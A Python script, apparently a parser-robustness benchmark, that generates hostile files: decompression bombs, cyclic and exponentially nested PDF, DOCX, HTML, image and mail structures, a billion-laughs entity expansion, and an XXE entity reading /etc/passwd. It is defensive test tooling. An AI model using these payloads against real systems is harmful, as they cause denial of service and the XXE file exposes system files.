"""Makes hostile documents: small files that ask for more than any reader should give.

    python3 benches/extract/bombs.py DIRECTORY

Each function below writes one file and says in its first line what it does to a reader. None is
committed: they are made anew, the same in every run.
"""

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CONTENT_TYPES = b"""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/%s" ContentType="application/vnd.openxmlformats-officedocument.%s.main+xml"/></Types>"""
RELATIONS = b"""<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="%s"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>"""
WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BOMBS = []


def bomb(extension):
    """Registers a function that makes a file of this name."""
    def register(make):
        BOMBS.append((f"{make.__name__}.{extension}", make))
        return make
    return register


def main(folder, quiet=False):
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in BOMBS:
        path = folder / name
        if not path.exists():
            path.write_bytes(make())
        if not quiet:
            print(f"{path.stat().st_size:>10}  {name:32} {make.__doc__}")


# PDF


def pdf(objects):
    """A PDF file of these objects, numbered from 1; the first is its catalog."""
    out, offsets = bytearray(PDF_HEADER), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data, entries=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def deflated(data, entries=b""):
    return stream(data, b"/Filter/FlateDecode" + entries)


def page(content, resources=b"/Font<</F1 5 0 R>>", more=(), entries=b""):
    """A PDF file of one page with this content stream (object 4) and a font (object 5)."""
    return pdf([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<%s>>%s>>" % (resources, entries),
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    ])


def compressed_repeat(chunk, times):
    """Deflates many repetitions of a chunk without ever holding them."""
    packer, out = zlib.compressobj(9), bytearray()
    for _ in range(times):
        out += packer.compress(chunk)
    return bytes(out + packer.flush())


TEXT = b"BT /F1 12 Tf 72 700 Td (bomb) Tj ET\n"
MIB_OF_SPACES = b" " * (1 << 20)


@bomb("pdf")
def flate_bomb_content():
    """A content stream that inflates to 1 GB of spaces."""
    return page(deflated(compressed_repeat(MIB_OF_SPACES, 1024)))


@bomb("pdf")
def flate_bomb_text():
    """A content stream that inflates to 500 MB of operators that show text."""
    return page(deflated(compressed_repeat(TEXT * 29_000, 500)))


@bomb("pdf")
def flate_bomb_nested():
    """Ten Flate filters, one in the other, around 100 MB."""
    data = compressed_repeat(MIB_OF_SPACES, 100)
    for _ in range(9):
        data = zlib.compress(data, 9)
    return page(stream(data, b"/Filter[%s]" % (b"/FlateDecode" * 10)))


@bomb("pdf")
def xobject_exponential():
    """Ten forms that draw the next form ten times each: 10^10 drawings."""
    forms = []
    for depth in range(10):
        forms.append(stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
                            % (7 + depth)))
    forms.append(stream(b"BT (x) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"))
    return page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", forms)


@bomb("pdf")
def xobject_self_cycle():
    """A form that draws itself."""
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", [form])


@bomb("pdf")
def cmap_range():
    """A ToUnicode map of one line for four thousand million characters."""
    cmap = b"""/CIDInit /ProcSet findresource begin begincmap
1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange
1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap"""
    font = b"""<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 8 0 R/DescendantFonts[7 0 R]>>"""
    cid = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
    return page(stream(b"BT /F1 12 Tf 72 700 Td <00410042> Tj ET"), b"/Font<</F1 6 0 R>>", [font, cid, stream(cmap)])


@bomb("pdf")
def cid_widths_range():
    """A width for each of two thousand million glyphs, in one range."""
    cid = (b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/W[0 2147483647 500]"
           b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>")
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[7 0 R]>>"
    return page(stream(b"BT /F1 12 Tf 72 700 Td <00410042> Tj ET"), b"/Font<</F1 6 0 R>>", [font, cid])


@bomb("pdf")
def deep_q_nesting():
    """Two million saved graphics states."""
    return page(deflated(compressed_repeat(b"q " * 1000, 2000)))


@bomb("pdf")
def deep_text_nesting():
    """Two million marked-content sequences in each other."""
    return page(deflated(compressed_repeat(b"/Span <</A 1>> BDC " * 1000, 2000)))


@bomb("pdf")
def deep_array_in_content():
    """A million arrays in each other, as an operand."""
    return page(deflated(zlib.compress(b"[" * 1_000_000)))


@bomb("pdf")
def deep_array():
    """A million arrays in each other, as an object."""
    return page(stream(TEXT), entries=b"/X " + b"[" * 1_000_000)


@bomb("pdf")
def deep_dict():
    """Half a million dictionaries in each other, as an object."""
    return page(stream(TEXT), entries=b"/X " + b"<</A" * 500_000)


@bomb("pdf")
def pages_exponential():
    """A page tree of twelve nodes that claims, by repetition, 10^10 pages."""
    nodes = [b"<</Type/Catalog/Pages 2 0 R>>"]
    for depth in range(10):
        nodes.append(b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"%d 0 R " % (depth + 3) * 10, 10 ** (10 - depth)))
    nodes.append(b"<</Type/Page/MediaBox[0 0 9 9]>>")
    return pdf(nodes)


@bomb("pdf")
def pages_cycle():
    """A page tree whose only node is its own child."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"])


@bomb("pdf")
def pages_many():
    """A million pages that are the same page."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000/Kids[%s]>>" % (b"3 0 R " * 1_000_000),
                b"<</Type/Page/MediaBox[0 0 612 792]/Contents 4 0 R>>", stream(TEXT)])


@bomb("pdf")
def length_cycle():
    """A stream whose length is that stream."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
                b"<</Length 4 0 R>>stream\nBT (x) Tj ET\nendstream"])


@bomb("pdf")
def predictor_overflow():
    """A predictor over rows of two thousand million columns."""
    data = zlib.compress(b"\x02" * 4096)
    return page(deflated(data, b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"))


@bomb("pdf")
def huge_image():
    """An image of 100,000 by 100,000 pixels, drawn once."""
    image = deflated(zlib.compress(b"\0" * 4096), b"/Type/XObject/Subtype/Image/Width 100000/Height 100000"
                     b"/BitsPerComponent 8/ColorSpace/DeviceRGB")
    return page(stream(b"612 0 0 792 0 0 cm /X Do"), b"/XObject<</X 6 0 R>>", [image])


@bomb("pdf")
def huge_mediabox():
    """A page two million points wide and high, with text in a corner."""
    return page(stream(TEXT), entries=b"/MediaBox[0 0 2000000 2000000]")


@bomb("pdf")
def pattern_tiles():
    """A tiling pattern of cells a thousandth of a point wide, over the page."""
    pattern = stream(b"0 0 1 1 re f", b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]"
                     b"/XStep 0.001/YStep 0.001/Resources<<>>")
    return page(stream(b"/Pattern cs /P scn 0 0 612 792 re f"), b"/Pattern<</P 6 0 R>>", [pattern])


@bomb("pdf")
def annotations_many():
    """Half a million annotations that share one text."""
    return page(stream(TEXT), entries=b"/Annots[%s]" % (b"6 0 R " * 500_000),
                more=[b"<</Type/Annot/Subtype/FreeText/Rect[0 0 99 99]/Contents(%s)>>" % (b"word " * 200)])


@bomb("pdf")
def fields_exponential():
    """Form fields whose children are, by repetition, 10^10 fields."""
    fields = [b"<</T(f)/Kids[%s]>>" % (b"%d 0 R " % (7 + depth) * 10) for depth in range(10)]
    fields.append(b"<</T(leaf)/FT/Tx/V(value)>>")
    body = page(stream(TEXT), more=fields)
    return body.replace(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]>>>>")


@bomb("pdf")
def outline_cycle():
    """Bookmarks that follow each other in a circle."""
    body = page(stream(TEXT), more=[b"<</First 7 0 R/Last 8 0 R/Count 2>>", b"<</Title(a)/Next 8 0 R/Parent 6 0 R>>",
                                    b"<</Title(b)/Next 7 0 R/Parent 6 0 R>>"])
    return body.replace(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>")


@bomb("pdf")
def xref_chain_cycle():
    """Cross-reference sections that name each other as the one before."""
    body = page(stream(TEXT))
    start = int(body.rsplit(b"startxref\n", 1)[1].split()[0])
    return body.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


@bomb("pdf")
def object_stream_bomb():
    """An object stream of 1 GB that claims a hundred million objects."""
    body = page(stream(TEXT), more=[deflated(compressed_repeat(MIB_OF_SPACES, 1024),
                                             b"/Type/ObjStm/N 100000000/First 10")])
    return body.replace(b"startxref", b"%startxref")


@bomb("pdf")
def lzw_bomb():
    """A content stream of LZW codes that each repeat the longest string so far."""
    bits, out, width, table = 0, bytearray(), 9, 258
    held = 0

    def put(code):
        nonlocal bits, held
        held = (held << width) | code
        bits += width
        while bits >= 8:
            bits -= 8
            out.append((held >> bits) & 0xFF)
        held &= (1 << bits) - 1

    for _ in range(150):
        width, table = 9, 258
        put(256)
        put(32)
        while table < 4094:
            put(table)
            table += 1
            width = 9 if table < 511 else 10 if table < 1023 else 11 if table < 2047 else 12
    put(257)
    return page(stream(zlib.compress(bytes(out)), b"/Filter[/FlateDecode/LZWDecode]"))


# Office Open XML and OpenDocument


def package(parts, main, kind):
    """A file of Office Open XML with these parts besides the two that all have."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as out:
        all_parts = {"[Content_Types].xml": CONTENT_TYPES % (main.encode(), kind.encode()),
                     "_rels/.rels": RELATIONS % main.encode(), **parts}
        for name, content in all_parts.items():
            # A fixed time: the same file in every run.
            entry = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            with out.open(entry, "w", force_zip64=True) as part:
                for chunk in [content] if isinstance(content, bytes) else content:
                    part.write(chunk)
    return held.getvalue()


def docx(*body, declaration=b""):
    """A DOCX file with this in its body, given as one chunk or as several."""
    start = b'<?xml version="1.0"?>%s<w:document %s><w:body>' % (declaration, WORD)
    return package({"word/document.xml": iter([start, *body, b"</w:body></w:document>"])},
                         "word/document.xml", "wordprocessingml.document")


def repeated(chunk, times):
    return (chunk for _ in range(times))


@bomb("docx")
def paragraphs_2m():
    """Two million paragraphs of one letter."""
    return docx(*repeated(b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 1000, 2000))


@bomb("docx")
def zip_bomb():
    """A main part of 1.5 GB of spaces."""
    return docx(*repeated(MIB_OF_SPACES, 1536))


@bomb("docx")
def zip_bomb_text():
    """A main part of 1.5 GB of text in one paragraph."""
    return docx(b"<w:p><w:r><w:t>", *repeated(b"word word " * 100_000, 1536), b"</w:t></w:r></w:p>")


@bomb("docx")
def nested_tables():
    """A hundred thousand tables in each other."""
    return docx(b"<w:tbl><w:tr><w:tc>" * 100_000, b"</w:tc></w:tr></w:tbl>" * 100_000)


@bomb("docx")
def attribute_bomb():
    """An element with a million attributes."""
    attributes = b" ".join(b'w:a%d="1"' % number for number in range(1_000_000))
    return docx(b"<w:p ", attributes, b"><w:r><w:t>word</w:t></w:r></w:p>")


@bomb("docx")
def name_bomb():
    """An element whose name has fifty million characters."""
    return docx(b"<w:", *repeated(b"a" * 1_000_000, 50), b"/>")


@bomb("docx")
def billion_laughs():
    """Entities that grow to a thousand million words."""
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return docx(b"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>",
                declaration=b'<!DOCTYPE d [<!ENTITY l0 "laugh">%s]>' % entities)


@bomb("docx")
def xxe():
    """An entity that names a file of the system."""
    return docx(b"<w:p><w:r><w:t>seen: &x;</w:t></w:r></w:p>",
                declaration=b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@bomb("docx")
def many_entries():
    """A package of two hundred thousand empty parts."""
    parts = {f"word/{number}.xml": b"" for number in range(200_000)}
    parts["word/document.xml"] = b'<w:document %s><w:body/></w:document>' % WORD
    return package(parts, "word/document.xml", "wordprocessingml.document")


@bomb("docx")
def headers_many():
    """A main part that names one header of 10 MB ten thousand times."""
    relations = b"".join(
        b'<Relationship Id="r%d" Target="header.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/header"/>' % number for number in range(10_000))
    text = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % (b"word " * 2_000_000)
    return package({
        "word/document.xml": b'<w:document %s><w:body><w:p/></w:body></w:document>' % WORD,
        "word/_rels/document.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                        b'relationships">%s</Relationships>' % relations,
        "word/header.xml": b'<w:hdr %s>%s</w:hdr>' % (WORD, text),
    }, "word/document.xml", "wordprocessingml.document")


@bomb("xlsx")
def shared_string_bomb():
    """A million cells that show one text of 30 kB."""
    sheet = b"".join(b'<c t="s"><v>0</v></c>' for _ in range(1000))
    spreadsheet = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relationship = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return package({
        "xl/workbook.xml": b'<workbook %s xmlns:r="%s"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
                           % (spreadsheet, relationship),
        "xl/_rels/workbook.xml.rels":
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/>'
            b'<Relationship Id="r2" Type="%s/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
            % (relationship, relationship),
        "xl/sharedStrings.xml": b'<sst %s><si><t>%s</t></si></sst>' % (spreadsheet, b"word " * 6000),
        "xl/worksheets/sheet1.xml": iter([b'<worksheet %s><sheetData>' % spreadsheet,
                                          *repeated(b"<row>%s</row>" % sheet, 1000), b"</sheetData></worksheet>"]),
    }, "xl/workbook.xml", "spreadsheetml.sheet")


@bomb("xlsx")
def far_cell():
    """A sheet with one cell, in the last column of the last row there is."""
    spreadsheet = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relationship = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return package({
        "xl/workbook.xml": b'<workbook %s xmlns:r="%s"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
                           % (spreadsheet, relationship),
        "xl/_rels/workbook.xml.rels":
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' % relationship,
        "xl/worksheets/sheet1.xml": b'<worksheet %s><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is>'
                                    b"<t>far</t></is></c></row></sheetData></worksheet>" % spreadsheet,
    }, "xl/workbook.xml", "spreadsheetml.sheet")


@bomb("odt")
def repeated_cells():
    """A table cell and a row that say they are repeated a thousand million times each."""
    held = io.BytesIO()
    content = (b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><table:table>'
               b'<table:table-row table:number-rows-repeated="1000000000">'
               b'<table:table-cell table:number-columns-repeated="1000000000"><text:p>a<text:s text:c="1000000000"/>b'
               b"</text:p></table:table-cell></table:table-row></table:table></office:text></office:body>"
               b"</office:document-content>")
    with zipfile.ZipFile(held, "w") as out:
        for name, part in [("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content)]:
            out.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), part)
    return held.getvalue()


# Marked-up text and mail


@bomb("html")
def deep_html():
    """A million elements in each other."""
    return b"<!doctype html><title>t</title>" + b"<div>" * 1_000_000 + b"word"


@bomb("html")
def formatting_html():
    """Formatting elements that are never closed: quadratic in parsers that reopen them."""
    return b"<!doctype html><title>t</title>" + b"<p><b><i><u><font size=1>word" * 50_000


@bomb("html")
def attributes_html():
    """An element with a million attributes."""
    return b"<!doctype html><p " + b" ".join(b"a%d=1" % number for number in range(1_000_000)) + b">word"


@bomb("rtf")
def deep_rtf():
    """Two million groups in each other."""
    return b"{\\rtf1 " + b"{" * 2_000_000 + b"word"


@bomb("rtf")
def binary_rtf():
    """A run of binary data that claims two thousand million bytes."""
    return b"{\\rtf1 before \\bin2147483647 x} after}"


@bomb("eml")
def deep_mail():
    """Ten thousand multipart messages in each other."""
    head = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(10_000))
    return b"From: a@example.org\r\nSubject: s\r\nMIME-Version: 1.0\r\n" + head + b"Content-Type: text/plain\r\n\r\nword\r\n"


@bomb("eml")
def many_parts_mail():
    """A message of half a million empty parts."""
    return (b"From: a@example.org\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nx\r\n" * 500_000 + b"--b--\r\n")


@bomb("eml")
def header_mail():
    """A header line of 30 MB of encoded words."""
    return b"From: a@example.org\r\nSubject: " + b"=?utf-8?q?a?= " * 2_200_000 + b"\r\n\r\nword\r\n"


@bomb("json")
def deep_json():
    """Five million arrays in each other."""
    return b"[" * 5_000_000


@bomb("xml")
def deep_xml():
    """A million elements in each other."""
    return b'<?xml version="1.0"?>' + b"<a>" * 1_000_000 + b"word"


@bomb("txt")
def one_line():
    """A line of 60 MB without a space."""
    return b"a" * 60_000_000


# Pictures and sound


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@bomb("png")
def png_50k():
    """A PNG of 50,000 by 50,000 pixels in ten megabytes."""
    row = b"\0" * (50_000 * 4 + 1)
    data = compressed_repeat(row, 50_000)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 6, 0, 0, 0))
            + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b""))


@bomb("png")
def png_text():
    """A PNG whose compressed comment inflates to 1 GB."""
    comment = compressed_repeat(MIB_OF_SPACES, 1024)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + png_chunk(b"zTXt", b"Comment\0\0" + comment) + png_chunk(b"IDAT", zlib.compress(b"\0\0"))
            + png_chunk(b"IEND", b""))


@bomb("gif")
def gif_65k():
    """A GIF of 65,535 by 65,535 pixels in a hundred bytes."""
    return (b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
            + b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\x02\x02\x44\x01\x00;")


@bomb("tiff")
def tiff_ifd_loop():
    """A TIFF whose directory names itself as the next."""
    entries = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8),
               (277, 3, 1, 1), (278, 3, 1, 8), (279, 4, 1, 64)]
    directory = struct.pack("<H", len(entries))
    directory += b"".join(struct.pack("<HHII", *entry) for entry in entries)
    offset = 8 + 64
    return b"II*\0" + struct.pack("<I", offset) + b"\x80" * 64 + directory + struct.pack("<I", offset)


@bomb("tiff")
def tiff_strips():
    """A TIFF that claims a strip for each of four thousand million rows."""
    entries = [(256, 4, 1, 1), (257, 4, 1, 0xFFFFFFFF), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 0xFFFFFFFF, 8), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, 0xFFFFFFFF, 8)]
    directory = struct.pack("<H", len(entries))
    directory += b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + directory + b"\0\0\0\0"


@bomb("webp")
def webp_16k():
    """The header of a lossless WebP of 16,384 by 16,384 pixels, and nothing behind it."""
    size = (16_383) | (16_383 << 14)
    data = b"VP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", size) + b"\0"
    return b"RIFF" + struct.pack("<I", len(data) + 4) + b"WEBP" + data


@bomb("bmp")
def bmp_huge():
    """A BMP that claims a hundred thousand pixels each way, and has none."""
    return (b"BM" + struct.pack("<IHHI", 54, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, 100_000, 100_000, 1, 24, 0, 0, 0, 0, 0, 0))


@bomb("wav")
def wav_claims():
    """A WAV file that claims four thousand million bytes of sound."""
    return (b"RIFF" + struct.pack("<I", 0xFFFFFFFF) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
            + b"data" + struct.pack("<I", 0xFFFFFFFF) + b"\x80" * 100)


@bomb("mp4")
def deep_mp4():
    """A hundred thousand boxes in each other."""
    depth = 100_000
    boxes = b"".join(struct.pack(">I", 8 * (depth - n)) + b"moov" for n in range(depth))
    return struct.pack(">I", 16) + b"ftypisom\0\0\2\0" + boxes


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(Path(sys.argv[1]))
